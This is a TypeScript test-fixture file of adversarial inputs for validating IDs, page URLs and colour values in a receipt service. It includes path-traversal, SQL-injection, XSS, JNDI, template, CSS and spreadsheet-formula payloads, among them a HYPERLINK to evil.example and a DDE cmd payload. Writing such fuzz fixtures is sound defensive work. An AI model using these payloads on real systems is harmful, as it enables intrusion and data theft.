export const oddIds = [
  ['%20', '%00', 'a%00b', '%ED%A0%80', '%C0%AF', '%F0%9F%92%A9', '%E2%80%AE'],
  ['%2e%2e', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '..%5c..%5cwindows', '%252e%252e%252f', '%2500', '....', 'a.'],
  ['-1', '0x1', '1e3', 'NaN', 'undefined', 'null', '[object%20Object]'],
  ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'],
  ['*', '%25', '%27%20OR%201=1--', "';DROP%20TABLE%20receipt;--", '%0d%0aSet-Cookie:%20a=b'],
  ['%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E', '$%7Bjndi:ldap:%2F%2Fx%7D', '%7B%7B7*7%7D%7D'],
  ['R-00000000000000000000000000', '00000000-0000-0000-0000-000000000000', '01ARZ3NDEKTSV4RRFFQ69G5FAV'],
  ['a'.repeat(129), 'a'.repeat(4_000), '%61'.repeat(1_300)],
].flat()

export const brokenIds = ['%', '%z', '%zz', '%c3%28%', 'a'.repeat(5_000)]

export const badPageUrls = [
  ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
  ['data:text/html,<script>1</script>', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://example.com/1'],
  ['http://example.com/', '//example.com/', '/relative', 'example.com', 'https://'],
  ['https://user:pass@example.com/', 'https://user@example.com/'],
  ['https://[::1', 'https://exa mple.com/', 'https://%00.example.com/'],
  [`https://example.com/${'a'.repeat(2_100)}`],
].flat()

export const badColours = [
  ['blurple', '#ff', '#fffffffff', '#gggggg', 'ffffff'],
  ['#ffffff;background:url(//x)', '#ffffff</style><script>'],
  ['url(javascript:alert(1))', 'expression(alert(1))', 'var(--x)'],
  [' #ffffff', '#ffffff\n', '＃ffffff'],
].flat()

/** Odd but valid texts. The service must store them unchanged and display them as plain text. */
export const oddAndAllowed = [
  ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)"],
  ['</title></script><svg onload=alert(1)>', '<!--<script>', ']]>&lt;&#x3c;'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is the test data
  ['{{7*7}}${7*7}<%= 7*7 %>', '=HYPERLINK("https://evil.example","x")', '@SUM(1+1)*cmd|calc!A0'],
  ["'; DROP TABLE receipt; --", '$1 $$ \\1 \\', '%s%n%x%00'],
  ['../../../etc/passwd', 'javascript:alert(1)'],
  ['null', '__proto__', 'constructor'],
  ['\ud83d\udca9', 'a\u0301'.repeat(60), '\u00a0\ufeff\u200b.'],
].flat()
